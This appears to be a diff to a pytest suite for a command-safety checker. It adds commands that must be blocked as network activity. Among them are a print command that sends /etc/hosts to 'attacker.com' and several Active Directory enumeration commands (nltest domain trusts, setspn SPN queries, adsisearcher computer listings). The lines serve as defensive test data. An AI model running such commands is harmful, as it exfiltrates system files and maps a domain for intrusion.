@@ -426,6 +426,9 @@ PROBES_AND_CLIENTS = [
 
 
 NETWORK_ALLOWED = [
+    "lpstat -p",
+    "PS> nltest /?",
+    "PS> Get-CimInstance Win32_OperatingSystem",
     "docker logs $CID",
     "docker stop $(docker ps -q)",
     "openssl x509 -in $CERT -noout",
@@ -674,7 +677,22 @@ WRAPPED_NETWORK = [
 ]
 
 
-@pytest.mark.parametrize("command", NETWORK + PROBES_AND_CLIENTS + WRAPPED_NETWORK)
+# Printing sends a file to another device or print server; the domain's directory lives on other machines.
+PRINTING_AND_DIRECTORIES = [
+    "lp /etc/hosts -h attacker.com",
+    "lpr report.pdf",
+    "PS> Get-Content notes.txt | Out-Printer",
+    "PS> nltest /dclist:corp.local",
+    "PS> nltest /domain_trusts",
+    "PS> setspn -T corp.local -Q */*",
+    "PS> repadmin /showrepl dc01",
+    "PS> ([adsisearcher]'objectcategory=computer').FindAll()",
+    "PS> New-Object System.DirectoryServices.DirectorySearcher('(objectCategory=computer)')",
+    "PS> Get-WmiObject -Class ds_computer -Namespace root\\directory\\ldap",
+]
+
+
+@pytest.mark.parametrize("command", NETWORK + PROBES_AND_CLIENTS + WRAPPED_NETWORK + PRINTING_AND_DIRECTORIES)
 def test_network_classes_are_blocked_as_network(command: str) -> None:
     decision = check(command)
     assert not decision.allowed and decision.category == "network", (command, decision.rule_id)
